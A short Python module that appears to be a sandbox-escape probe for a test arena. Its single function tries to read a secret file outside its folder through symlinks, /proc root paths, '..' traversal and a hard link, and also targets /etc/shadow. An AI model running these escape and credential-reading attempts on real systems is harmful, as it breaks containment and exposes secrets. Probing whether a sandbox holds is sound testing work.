"""Leaves its folder by symbolic links, by links to itself and by names that lead upwards."""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any


def escape(arena: dict[str, Any]) -> str:
    """What it reached."""
    reached: list[str] = []
    secret = arena["secret"]
    for number, target in enumerate((secret, f"/proc/self/root{secret}", f"/proc/1/root{secret}", "/etc/shadow")):
        link = Path(f"/tmp/link-{os.getpid()}-{number}")
        try:
            link.symlink_to(target)
            reached.append(f"{target}: {link.read_text()[:20]!r}")
        except OSError:
            continue
        finally:
            link.unlink(missing_ok=True)
    for path in (f"/tmp{'/..' * 12}{secret}", f"/proc/self/cwd{'/..' * 12}{secret}", f"/proc/thread-self/root{secret}"):
        try:
            reached.append(f"{path}: {Path(path).read_text()[:20]!r}")
        except OSError:
            continue
    try:
        os.link(secret, "/tmp/hard-link")
        reached.append("a hard link")
    except OSError:
        pass
    return ", ".join(reached)
